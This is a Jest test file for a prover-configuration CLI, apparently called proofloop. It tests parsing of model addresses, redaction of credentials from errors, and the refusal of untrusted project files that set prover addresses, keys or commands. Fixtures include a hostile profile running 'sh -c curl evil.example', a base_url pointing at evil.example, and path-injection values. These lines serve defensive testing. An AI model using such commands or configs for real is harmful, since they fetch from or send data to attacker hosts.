import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { planOf } from '../../src/cli/run/plan.ts';
import { createProvers } from '../../src/prover/index.ts';
import { from, load, own, project, site, trust } from './site.ts';

const EVIL = ['base_url = "http://evil.example/v1"', 'api_key_env = "MY_KEY"'];

describe('names of provers', () => {
  test('a model with an address becomes a profile of this process, whose name holds no address to obey', async () => {
    const { config } = await load({ provers: 'local,openai:goedel@http://127.0.0.1:8000/v1/' });
    expect(config.provers.use).toEqual(['local', 'openai:goedel@127.0.0.1:8000/v1']);
    expect(config.provers.inline).toEqual(['openai:goedel@127.0.0.1:8000/v1']);
    expect(config.provers.profiles['openai:goedel@127.0.0.1:8000/v1']).toMatchObject({
      kind: 'openai',
      model: 'goedel',
      baseUrl: 'http://127.0.0.1:8000/v1',
      apiKeyEnv: null,
    });
    expect(createProvers(config).get('openai:goedel@127.0.0.1:8000/v1')).toMatchObject({ model: 'goedel' });
    // The name alone means nothing to a worker that was not given the profile.
    expect(createProvers((await load()).config).get('openai:goedel@127.0.0.1:8000/v1')).toBeUndefined();
  });

  test('models with slashes and colons, replays of an address, a profile at another address', async () => {
    await own('[provers.lab]\nkind = "openai"\nmodel = "prover"\ntemplate = "goedel-prover-v2"\n');
    const { config } = await load({
      provers:
        'openai:deepseek-ai/DeepSeek-Prover-V2-7B@https://h.example/v1,replay:openai:llama3:8b@http://[::1]:1/v1,lab@http://127.0.0.1:2/v1',
    });
    expect(config.provers.use).toEqual([
      'openai:deepseek-ai/DeepSeek-Prover-V2-7B@h.example/v1',
      'replay:openai:llama3:8b@[::1]:1/v1',
      'lab@127.0.0.1:2/v1',
    ]);
    const provers = createProvers(config);
    expect(config.provers.use.map((name) => provers.get(name)?.model)).toEqual([
      'deepseek-ai/DeepSeek-Prover-V2-7B',
      'llama3:8b',
      'prover',
    ]);
    expect(config.provers.profiles['lab@127.0.0.1:2/v1']).toMatchObject({ template: 'goedel-prover-v2' });
  });

  test.each([
    ['gemini:x@http://h/v1', /only a profile of kind "openai"/],
    ['openai:x@http://me:hunter2@h/v1', /without user, password/],
    ['openai:x@http://h/v1?key=hunter2', /without user, password/],
    ['openai:x@http://', /http or https address/],
    ['nobody:x@http://h/v1', /no prover profile "nobody:x"/],
    ['nobody', /no prover profile "nobody"/],
    ['openai', /no prover profile "openai"/],
    ['replay', /no prover profile "replay"/],
  ])('%s is refused', async (name, message) => {
    const error = (await load({ provers: name }).catch((e: Error) => e)) as Error;
    expect(error.message).toMatch(message);
    expect(error.message).not.toContain('hunter2');
  });
});

describe('the file of a project', () => {
  test('names no address, key or program of a prover without the trust of the user', async () => {
    for (const lines of [
      ['kind = "openai"', 'model = "m"', EVIL[0]],
      ['kind = "gemini"', EVIL[0]],
      ['kind = "gemini"', EVIL[1]],
      ['kind = "command"', 'command = ["sh", "-c", "curl evil.example"]'],
    ]) {
      await project(['[provers.mine]', ...lines].join('\n'));
      const { config } = await load();
      expect(createProvers(config).get('mine')).toBeUndefined();
      expect(config.provers.untrusted).toHaveProperty('mine');
      for (const provers of ['mine', 'replay:mine'])
        await expect(load({ provers })).rejects.toMatchObject({
          code: 'PROFILE_UNTRUSTED',
          message: expect.stringContaining('proofloop.toml'),
        });
      await trust();
      expect(createProvers((await load({ provers: 'mine' })).config).has('mine')).toBe(true);
      // A file that was changed since is another file.
      await project(['[provers.mine]', ...lines, '# changed'].join('\n'));
      await expect(load({ provers: 'mine' })).rejects.toMatchObject({ code: 'PROFILE_UNTRUSTED' });
    }
  });

  test('does not change where a profile of the user’s own name goes', async () => {
    await own('[provers.gemini]\nkind = "gemini"\napi_key_env = "MY_KEY"\n');
    await project(`[provers.gemini]\nkind = "gemini"\n${EVIL.join('\n')}\n`);
    await expect(load({ provers: 'gemini' })).rejects.toMatchObject({ code: 'PROFILE_UNTRUSTED' });
    await expect(load({ provers: 'gemini:other' })).rejects.toMatchObject({ code: 'PROFILE_UNTRUSTED' });
  });

  test('names no address in its list of provers either', async () => {
    await project('[provers]\nuse = ["openai:m@http://evil.example/v1"]\n');
    await expect(load()).rejects.toMatchObject({ code: 'PROFILE_UNTRUSTED' });
    await trust();
    expect((await load()).config.provers.use).toEqual(['openai:m@evil.example/v1']);
  });

  test('may set all else, and what the user names by --config or PROOFLOOP_CONFIG is the user’s choice', async () => {
    await project('[provers.mine]\nkind = "gemini"\nmodel = "gemini-3.7-flash"\nrounds = 2\n');
    expect((await load({ provers: 'mine' })).config.provers.profiles.mine).toMatchObject({
      model: 'gemini-3.7-flash',
      budget: { rounds: 2 },
    });
    await project('[provers.mine]\nkind = "command"\ncommand = ["prover"]\n');
    const file = join(site.cwd, 'proofloop.toml');
    expect((await load({ provers: 'mine', config: file })).config.provers.profiles).toHaveProperty('mine');
    site.env.PROOFLOOP_CONFIG = file;
    expect((await load({ provers: 'mine' })).config.provers.profiles).toHaveProperty('mine');
  });

  test('a place of Vertex AI becomes part of an address, so it can only be a place', async () => {
    for (const line of ['location = "evil.example/"', 'project = "../x"']) {
      await project(`[provers.mine]\nkind = "gemini"\nvertex = true\n${line}\n`);
      await expect(load()).rejects.toMatchObject({ code: 'CONFIG_INVALID' });
    }
  });
});

describe('profiles', () => {
  test('what one prover may use is read in the words of the plan', async () => {
    await own(
      '[provers.lab]\nkind = "openai"\nmodel = "m"\nrounds = 2\nsamples = 8\nmax_tokens = 100_000\nmax_cost = 0.5\n',
    );
    expect((await load()).config.provers.profiles.lab).toMatchObject({
      budget: { rounds: 2, samples: 8, tokens: 100_000, costUsd: 0.5 },
    });
    expect(await from('provers.profiles.lab.budget.rounds')).toBe(
      join(site.home, 'xdg', 'proofloop', 'config.toml'),
    );
  });

  test('rounds and samples of a flag or a variable are stronger than those of a profile, other limits hold beside', async () => {
    await own(
      '[run]\nmax_rounds = 3\nsamples = 3\n[provers.lab]\nkind = "openai"\nmodel = "m"\nrounds = 2\nsamples = 8\nmax_cost = 0.5\n',
    );
    const budget = async (flags = {}) =>
      (await load({ provers: 'local,lab:other', ...flags })).config.provers.profiles.lab;
    expect(await budget()).toMatchObject({ budget: { rounds: 2, samples: 8, costUsd: 0.5 } });
    expect(await budget({ maxRounds: '5' })).toMatchObject({ budget: { samples: 8, costUsd: 0.5 } });
    site.env.PROOFLOOP_RUN_SAMPLES = '4';
    const { config } = await load({ maxRounds: '5', provers: 'lab,lab:other' });
    expect(config.provers.profiles.lab).toMatchObject({ budget: { costUsd: 0.5 } });
    expect(planOf(config, true)).toMatchObject({
      budget: { rounds: 5, samples: 4 },
      proverBudgets: { lab: { costUsd: 0.5 }, 'lab:other': { costUsd: 0.5 } },
    });
    expect(planOf(config, true).proverBudgets?.lab).not.toHaveProperty('rounds');
  });

  test.each([
    ['kind = "openai"\ntemplate = "gpt"', 'deepseek-prover-v2'],
    ['kind = "openai"\nbody = { messages = [] }', 'proofloop sets them'],
    ['kind = "replay"', 'provers.mine.of'],
    ['kind = "command"', 'provers.mine.command'],
    ['kind = "command"\ncommand = ["x"]\npass_env = ["A B"]', 'name of an environment variable'],
    ['kind = "gemini"\nanswer = "json"', 'provers.mine.answer'],
  ])('%j is refused with what is expected', async (lines, message) => {
    await own(`[provers.mine]\n${lines}\n`);
    await expect(load()).rejects.toMatchObject({
      code: 'CONFIG_INVALID',
      message: expect.stringContaining(message),
    });
  });
});
